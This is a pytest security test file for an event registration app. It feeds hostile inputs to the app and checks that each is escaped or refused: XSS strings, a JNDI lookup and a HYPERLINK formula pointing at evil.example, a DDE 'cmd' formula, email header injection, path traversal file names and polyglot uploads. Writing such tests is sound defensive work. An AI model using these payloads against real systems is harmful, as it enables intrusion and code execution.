"""What somebody types or sends who wants to break something: taken as the text it is, or refused in words."""

from __future__ import annotations

import io
import secrets
import time
import unicodedata
import zipfile
from pathlib import Path
from typing import Any
from urllib.parse import quote_plus

import pytest
from markupsafe import escape
from sqlalchemy import select

import eventapp
from eventapp.db import db
from eventapp.people.folding import fold
from eventapp.registration.actions import NewChoice
from eventapp.registration.guestlist import MOST_LINES, read_lines
from eventapp.registration.models import Answer, AnswerFile, Invitation, Registration
from eventapp.registration.partylist import read_table
from eventapp.registration.queries import answer_files_folder, party_token
from eventapp.text import tidy
from tests.registration.asking import PDF, PNG, ask, word_file
from tests.registration.guests import count, make_category, make_notice, own_page, register_guest
from tests.registration.invited import FORM, vip_category
from tests.registration.strangers import csrf, told
from tests.registration.test_parties import register as register_party

MARKUP = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "%s %d ${jndi:ldap://evil.example}",
    '=HYPERLINK("http://evil.example")',
    "Lei\r\nBcc: everybody@example.org",
    "]]></text><script>alert(1)</script>",
)
TAKEN = ("L", "李", "😀", "A" * 60, "👩‍🔬 Doc", "Ñandú", "Zoë", *MARKUP)
UNSEEN = ("Lei\0Li", "Lei\u202eLi", "Lei\u2066Li", "Lei\x1bLi", "\ufeffLei")
FORMULAS = ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "=cmd|' /C calc'!A0")
# Many at once would take a minute to put in order, if they were.
HEAP = "a" + "\u0301\u0316" * 60_000


@pytest.fixture
def industry(event):
    make_notice(event)
    return make_category(event)


def send(client, category, status: int | None = 303, /, **fields: Any) -> Any:
    story = {"given_en": "Lei", "email": "lei@example.org", "consent": "y", "category": category.public_id}
    return client.post_form(FORM, status=status, **{**story, **fields})


def the_registration() -> Registration:
    return db.session.scalars(select(Registration)).one()


# -- Text ----------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", TAKEN)
def test_any_text_that_shows_is_kept_as_typed_and_shown_as_text(client, staff, industry, mailbox, deliver, text):
    typed = {"given_en": text, "organisation": text, "position": text}
    if len(text) <= 50:
        typed["name_zh"] = text
    page = client.follow(send(client, industry, **typed))
    row = the_registration()
    assert (row.given_en, row.organisation, row.position) == (tidy(text),) * 3
    desk = staff("organiser")
    pages = [page, *(client.get(f"{own_page(row)}{path}", status=200) for path in ("/details", "/data", "/withdraw"))]
    pages += [desk.get(path, status=200) for path in (
        "/manage/delta-2026/registrations", f"/manage/delta-2026/registrations/{row.public_id}",
    )]  # fmt: skip
    for shown in pages:
        assert not shown.tree.xpath("//img[@onerror] | //script[not(@src)][contains(., 'alert')]"), told(shown)
    deliver()
    (mail,) = mailbox.to("lei@example.org")
    assert mail["Bcc"] is None
    html = mail.get_body(("html",)).get_content()
    assert "<script" not in html
    assert "<img src=x" not in html


@pytest.mark.parametrize("text", ["{{ 7 * 7 }}{% debug %}", "%(name)s {0.__class__}"])
def test_no_text_of_a_guest_is_run_as_a_template(app, industry, text):
    row = register_guest(industry, name={"given_en": text}, organisation=text)
    page = app.test_client().get(own_page(row)).get_data(as_text=True)
    assert str(escape(text)) in page


def test_letters_under_heaps_of_marks_are_left_as_they_are_and_others_are_composed():
    began = time.process_time()
    assert tidy(HEAP) == HEAP
    assert fold("a" * 600 + HEAP).startswith("a" * 600)
    assert time.process_time() - began < 2
    assert tidy("Zoe\u0308 " * 200) == " ".join(["Zo\xeb"] * 200)
    assert tidy("a" + "\u0301\u0316" * 20) == unicodedata.normalize("NFC", "a" + "\u0301\u0316" * 20)


@pytest.mark.parametrize("text", UNSEEN)
@pytest.mark.parametrize(
    "field", ["given_en", "name_zh", "email", "phone", "organisation", "category", "form_key", "code"]
)
def test_what_nobody_sees_is_refused_in_words(client, industry, field, text):
    answer = send(client, industry, None, **{field: text})
    assert answer.status_code in (422, 400), told(answer)
    assert count(Registration) == 0


@pytest.mark.parametrize("field", ["given_en", "name_zh", "organisation", "email", "code", "form_key"])
def test_half_a_character_is_no_failure_of_ours(client, industry, field):
    for raw in ("%ED%A0%80", "%FF%FE", "%C3", "%F4%90%80%80"):
        shown = client.get(FORM, status=200)
        known = {name: shown.tree.xpath(f"//input[@name='{name}']/@value")[0] for name in ("csrf_token", "notice_id")}
        story = {**known, "form_key": secrets.token_urlsafe(24), "given_en": "Lei", "consent": "y", "language": "en",
                 "email": "lei@example.org", "category": industry.public_id}  # fmt: skip
        body = "&".join(
            f"{name}={raw if name == field else quote_plus(value)}" for name, value in {field: "", **story}.items()
        )
        answer = client.post(FORM, data=body, content_type="application/x-www-form-urlencoded")
        assert answer.status_code in (303, 422), told(answer)
    for row in db.session.scalars(select(Registration)):
        f"{row.given_en}{row.given_zh}{row.organisation}".encode()


@pytest.mark.parametrize(
    "field", ["given_en", "name_zh", "email", "phone", "organisation", "form_key", "way", "q_story"]
)
def test_a_field_of_a_megabyte_and_a_heap_of_marks_are_refused_and_take_no_time(client, event, industry, field):
    ask(event, "story", "long_text")
    for text in ("x" * 1_000_000, HEAP, "+" * 200_000, "李 " * 60_000):
        began = time.process_time()
        answer = send(client, industry, None, **{field: text})
        assert answer.status_code in (413, 422) or (field == "way" and answer.status_code == 303), told(answer)
        assert time.process_time() - began < 3
    assert count(Registration) == 0 or field == "way"


def test_a_thousand_ticks_of_one_question_are_refused_and_take_no_time(client, event, industry):
    choices = [NewChoice(f"Choice {number}", f"选择{number}") for number in range(30)]
    question = ask(event, "topics", "choices", choices=choices)
    began = time.process_time()
    answer = send(client, industry, 422, q_topics=[question.choices[0].public_id, *(["Choice x"] * 20_000)])
    assert time.process_time() - began < 3
    assert answer.errors
    assert count(Answer) == 0


# -- Tables that are pasted ----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "table",
    [
        "x" * 400_000,
        "\n" * 200_000,
        "\t" * 200_000,
        '"' * 100_001,
        '"a\nb' * 20_000,
        "王芳,Fang,Wang\n" * 10_000,
        "\0,\0\n",
        "😀\t\u202eLei\tLi\n",
        HEAP,
    ],
    ids=lambda text: repr(text[:12]),
)
def test_a_hostile_table_registers_nobody_and_is_answered_in_words(client, industry, table):
    token, began = csrf(client), time.process_time()
    notice = client.get(FORM).tree.xpath("//input[@name='notice_id']/@value")[0]
    story = {"csrf_token": token, "form_key": secrets.token_urlsafe(24), "notice_id": notice, "consent": "y",
             "category": industry.public_id, "contact_email": "zhao@example.org"}  # fmt: skip
    for path in ("/e/delta-2026/register/party", f"/party/{party_token(register_party(industry, 1))}/add"):
        answer = client.post(path, data={**story, "table": table})
        assert answer.status_code in (422, 413, 400), told(answer)
    assert time.process_time() - began < 8
    assert count(Registration) == 1


def test_of_ten_thousand_pasted_guests_the_first_are_read_and_the_others_told(staff, event):
    category, desk = vip_category(event), staff("organiser")
    table = "\n".join(f"Guest {number},guest{number}@example.org" for number in range(10_000))
    began = time.process_time()
    desk.post_form("/manage/delta-2026/invitations/paste", status=None, table=table, category_id=category.public_id)
    assert time.process_time() - began < 20
    assert count(Invitation) <= MOST_LINES


def test_a_cell_that_begins_like_a_formula_is_a_name_like_any_other():
    for cell in FORMULAS:
        people = read_table(f"{cell}\tLei\n").people
        assert [person["name_zh"] for person in people] in ([cell.strip()], [""], [])
        for line in read_lines(f"{cell},a@example.org", language="en", most_plus_ones=1):
            assert line.guest is None or line.guest.email == "a@example.org"


def test_whoever_writes_a_table_for_spreadsheets_disarms_its_cells():
    writers = []
    for path in Path(eventapp.__file__).parent.rglob("*.py"):
        source = path.read_text()
        if "csv.writer(" in source or "csv.DictWriter(" in source:
            writers.append(path.name)
            assert "FORMULA_STARTS" in source or "harmless" in source, f"{path}: a cell may be run as a formula"
        if "xlsxwriter.Workbook(" in source:
            assert '"strings_to_formulas": False' in source, f"{path}: a cell may be run as a formula"
            assert '"strings_to_urls": False' in source, f"{path}: a cell may become a link"
    assert writers


# -- Files ---------------------------------------------------------------------------------------------------------

SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!doctype html><script>alert(1)</script>"


def an_archive() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("META-INF/MANIFEST.MF", "x")
    return out.getvalue()


@pytest.mark.parametrize(
    ("data", "name"),
    [
        (SVG, "seal.svg"),
        (SVG, "seal.png"),
        (HTML, "letter.pdf"),
        (HTML, "letter.jpg\0.html"),
        (b"GIF89a" + HTML, "seal.gif"),
        (b"\xef\xbb\xbf" + HTML, "letter.docx"),
        (b"#!/bin/sh\nid\n", "letter.pdf"),
        (b"MZ\x90\x00", "letter.pdf"),
        (an_archive(), "letter.docx"),
        (word_file("word/vbaProject.bin"), "letter.docx"),
        (b"%PDF-1.7 " + HTML, "letter.pdf"),
    ],
)
def test_a_file_that_could_be_run_or_shown_as_a_page_is_refused(client, event, industry, data, name):
    ask(event, "letter", "file", required=True)
    answer = send(client, industry, 422, q_letter=(io.BytesIO(data), name))
    assert answer.errors
    assert (count(AnswerFile), count(Registration)) == (0, 0)
    assert not list(answer_files_folder().glob("*"))


@pytest.mark.parametrize(
    ("data", "name", "media_type"),
    [
        (PDF.replace(b"%%EOF", HTML + b"%%EOF"), "x.html", "application/pdf"),
        (PNG + HTML, "x.svg", "image/png"),
        (b"\xff\xd8\xff\xe0" + HTML, 'x".html\r\nX-Evil: 1', "image/jpeg"),
        (b"RIFF\x00\x00\x00\x00WEBP" + HTML, "../../static/x.js", "image/webp"),
        (word_file() + HTML, "x.php", "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
    ],
)
def test_a_file_of_two_kinds_is_only_ever_saved_and_never_shown(client, staff, event, industry, data, name, media_type):
    ask(event, "letter", "file")
    send(client, industry, q_letter=(io.BytesIO(data), name))
    row, file = the_registration(), db.session.scalars(select(AnswerFile)).one()
    answer = staff("organiser").get(
        f"/manage/delta-2026/registrations/{row.public_id}/files/{file.public_id}", status=200
    )
    assert answer.mimetype == media_type
    assert answer.headers["Content-Disposition"].startswith("attachment;")
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in answer.headers["Content-Security-Policy"]
    assert "X-Evil" not in answer.headers
    assert not file.name.endswith((".html", ".svg", ".js", ".php"))
    for path in (f"/static/{file.stored_as}", f"/portraits/{file.stored_as}"):
        client.get(path, status=404)


# -- A crowd behind one address ------------------------------------------------------------------------------------


def test_three_hundred_guests_a_minute_register_from_one_address(app, client, industry):
    shown = client.get(FORM, status=200)
    notice = shown.tree.xpath("//input[@name='notice_id']/@value")[0]
    plain = app.test_client()
    page = plain.get(FORM).get_data(as_text=True)
    token = page.partition('name="csrf_token"')[2].partition('value="')[2].partition('"')[0]
    statuses = []
    for number in range(300):
        story = {"csrf_token": token, "form_key": secrets.token_urlsafe(24), "notice_id": notice, "consent": "y",
                 "given_en": "Lei", "email": f"guest{number}@example.org", "category": industry.public_id}  # fmt: skip
        statuses.append(plain.post(FORM, data=story).status_code)
    assert statuses == [303] * 300
    assert count(Registration) == 300
